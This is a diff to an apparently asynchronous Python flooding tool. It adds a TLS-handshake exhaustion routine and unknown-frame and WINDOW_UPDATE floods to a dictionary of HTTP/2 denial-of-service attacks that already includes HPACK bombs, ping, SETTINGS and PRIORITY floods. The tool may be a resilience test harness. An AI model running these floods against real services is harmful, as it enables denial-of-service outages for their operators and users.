@@ -281,6 +281,20 @@ async def zero_windows(target: Target) -> None:
     await again(target, 50, once)
 
 
+async def handshakes(target: Target) -> None:
+    """Tunnels whose only use is the work that a TLS handshake makes."""
+    target.tls.set_alpn_protocols(["http/1.1"])
+
+    async def once(target: Target) -> None:
+        wire = await target.tunnel()
+        if wire is not None:
+            await wire.writer.start_tls(target.tls, server_hostname=API)
+            done["handshakes"] += 1
+            wire.close()
+
+    await again(target, 64, once)
+
+
 async def names(target: Target) -> None:
     numbers = iter(range(100_000))
     target.tls.set_alpn_protocols(["http/1.1"])
@@ -324,9 +338,12 @@ FLOODS: dict[str, Flood] = {
     "hpack_bomb": frames(hpack_bomb),
     "table_updates": frames(table_updates),
     "open_streams": frames(open_streams),
+    "handshakes": handshakes,
     "pings": frames(lambda at: frame(PING, 0, 0, bytes(8))),
     "settings": frames(lambda at: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, at))),
     "priorities": frames(lambda at: frame(PRIORITY, 0, 2 * at + 1, b"\0\0\0\0\1")),
+    "unknown_frames": frames(lambda at: frame(0xFA, 0, 0, bytes(100))),
+    "window_updates": frames(lambda at: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
     "zero_windows": zero_windows,
     "names": names,
     "refusals": refusals,
